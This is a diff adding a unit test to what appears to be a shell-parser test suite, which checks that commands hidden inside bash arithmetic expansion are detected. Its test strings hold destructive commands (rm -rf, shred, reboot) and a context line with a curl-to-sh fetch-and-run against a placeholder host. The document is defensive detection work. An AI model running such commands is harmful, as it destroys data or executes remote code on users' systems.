@@ -162,6 +162,27 @@ static void test_double_paren_not_arithmetic(void **st) {
     assert_int_equal(s->ncmds, 2);
 }
 
+/* bash expands $(…), `…` and ${…} inside arithmetic before it evaluates it: their
+ * commands run (found by the differential test). */
+static void test_subst_inside_arithmetic(void **st) {
+    lh_script *s = parse("echo $(( $(rm -rf /tmp/a) + 1 )); (( x = `shred b` )); "
+                         "for (( i = $(reboot); i < 2; i++ )); do :; done");
+    assert_int_equal(s->error, LH_SH_OK);
+    assert_true(find(s, "rm") > 0);
+    assert_true(find(s, "shred") > 0);
+    assert_true(find(s, "reboot") > 0);
+    assert_true(s->cmds[0].argv[1].flags & LH_W_ARITH);
+    assert_true(s->cmds[0].argv[1].flags & LH_W_SUBST);
+    /* nesting is bounded: "$((" 5,000 deep is an error, not a stack overflow */
+    char *deep = lh_arena_alloc(A, 5000 * 5 + 2);
+    for (int k = 0; k < 5000; k++) memcpy(deep + 3 * k, "$((", 3);
+    deep[5000 * 3] = '1';
+    for (int k = 0; k < 5000; k++) memcpy(deep + 5000 * 3 + 1 + 2 * k, "))", 2);
+    deep[5000 * 5 + 1] = 0;
+    s = parse(deep);
+    assert_int_equal(s->error, LH_SH_TOO_DEEP);
+}
+
 static void test_procsubst(void **st) {
     lh_script *s = parse("sh <(curl -s http://x) ; diff <(ls a) >(cat)");
     int curl = find(s, "curl");
@@ -445,6 +466,7 @@ int main(void) {
         cmocka_unit_test_setup(test_cmdsubst_nested, reset),
         cmocka_unit_test_setup(test_param_expansion_with_subst, reset),
         cmocka_unit_test_setup(test_double_paren_not_arithmetic, reset),
+        cmocka_unit_test_setup(test_subst_inside_arithmetic, reset),
         cmocka_unit_test_setup(test_procsubst, reset),
         cmocka_unit_test_setup(test_dynamic_command_word, reset),
         cmocka_unit_test_setup(test_pipeline_stages, reset),
